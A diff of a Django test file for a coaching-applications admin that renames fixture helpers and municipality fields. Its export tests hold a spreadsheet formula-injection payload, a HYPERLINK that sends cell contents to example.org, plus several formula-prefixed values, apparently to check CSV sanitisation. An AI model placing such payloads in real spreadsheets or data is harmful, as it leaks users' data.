@@ -10,7 +10,7 @@ from coalitions.services.coaching import coaching_application_create
 from coalitions.services.coalitions import coalition_register
 from municipalities.models import Municipality
 
-from .conftest import application_data, coalition_data
+from .conftest import application_fields, coalition_fields
 
 pytestmark = pytest.mark.django_db
 APPLICATIONS = "/admin/coaching_applications/"
@@ -20,7 +20,7 @@ APPLICATIONS = "/admin/coaching_applications/"
 def applications(coaching_page) -> list[CoachingApplication]:
     return [
         coaching_application_create(
-            page=coaching_page, language="nl", **application_data()
+            page=coaching_page, language="nl", **application_fields()
         ).application
         for _ in range(9)
     ]
@@ -53,11 +53,11 @@ def test_the_coaching_group_lists_and_filters_applications(coaching_client, appl
     waitlisted = coaching_client.get(APPLICATIONS, {"status": "waitlisted"})
 
     assert listing.status_code == 200
-    assert all(a.municipality in listing.text for a in applications)
-    assert applications[7].municipality in waitlisted.text
+    assert all(a.municipality_name in listing.text for a in applications)
+    assert applications[7].municipality_name in waitlisted.text
     assert f"{APPLICATIONS}decide/{applications[0].pk}/accept/" in listing.text
     assert f"{APPLICATIONS}decide/{applications[7].pk}/accept/" not in listing.text
-    assert applications[0].municipality not in waitlisted.text
+    assert applications[0].municipality_name not in waitlisted.text
 
 
 def test_the_coaching_group_exports_csv(coaching_client, applications):
@@ -78,14 +78,14 @@ HOSTILE = '=HYPERLINK("https://example.org/?d="&A1,"Open")'
         (
             APPLICATIONS,
             coaching_application_create,
-            application_data(
-                municipality=HOSTILE, coalition_name="+1+1", motivation="\t=1+1", phone="-2+3"
+            application_fields(
+                municipality_name=HOSTILE, coalition_name="+1+1", motivation="\t=1+1", phone="-2+3"
             ),
         ),
         (
             "/admin/coalitions/",
             coalition_register,
-            coalition_data(municipality="@SUM(1,1)", name=HOSTILE, partners="\r=1+1"),
+            coalition_fields(municipality_name="@SUM(1,1)", name=HOSTILE, partners="\r=1+1"),
         ),
     ],
 )
@@ -138,7 +138,9 @@ def test_a_decision_that_does_not_apply_is_refused_with_a_message(coaching_clien
 
 
 def test_listing_a_coalition_in_the_admin(coaching_client, coalition_page):
-    coalition = coalition_register(page=coalition_page, language="nl", **coalition_data()).coalition
+    coalition = coalition_register(
+        page=coalition_page, language="nl", **coalition_fields()
+    ).coalition
 
     coaching_client.post(f"/admin/coalitions/decide/{coalition.pk}/list/")
 
@@ -149,7 +151,7 @@ def test_listing_a_coalition_in_the_admin(coaching_client, coalition_page):
 def test_ordinary_editors_see_no_applications_nor_personal_data(
     editor_client, applications, coalition_page
 ):
-    coalition_register(page=coalition_page, language="nl", **coalition_data())
+    coalition_register(page=coalition_page, language="nl", **coalition_fields())
 
     assert refused(editor_client.get(APPLICATIONS))
     assert refused(editor_client.get(APPLICATIONS, {"export": "csv"}))
@@ -184,18 +186,18 @@ def test_editors_list_the_rows_whose_town_is_not_matched(
     coaching_application_create(
         page=coaching_page,
         language="nl",
-        **application_data(municipality="Gent", municipality_ref=gent),
+        **application_fields(municipality_name="Gent", municipality=gent),
     )
     unmatched = coaching_application_create(
-        page=coaching_page, language="nl", **application_data(municipality="Gentbrugge")
+        page=coaching_page, language="nl", **application_fields(municipality_name="Gentbrugge")
     ).application
     coalition_register(
         page=coalition_page,
         language="nl",
-        **coalition_data(municipality="Gent", municipality_ref=gent),
+        **coalition_fields(municipality_name="Gent", municipality=gent),
     )
     stray = coalition_register(
-        page=coalition_page, language="nl", **coalition_data(municipality="Atlantis")
+        page=coalition_page, language="nl", **coalition_fields(municipality_name="Atlantis")
     ).coalition
 
     applications = coaching_client.get(APPLICATIONS, {"municipality_unmatched": "true"})
@@ -203,8 +205,8 @@ def test_editors_list_the_rows_whose_town_is_not_matched(
     dashboard = BeautifulSoup(coaching_client.get("/admin/").content, "html.parser")
 
     assert applications.status_code == coalitions.status_code == 200
-    assert _listed(applications) == [unmatched.municipality]
-    assert _listed(coalitions) == [stray.municipality]
+    assert _listed(applications) == [unmatched.municipality_name]
+    assert _listed(coalitions) == [stray.municipality_name]
     links = {
         a["href"]: " ".join(a.get_text().split())
         for a in dashboard.select('a[href*="municipality_unmatched=true"]')
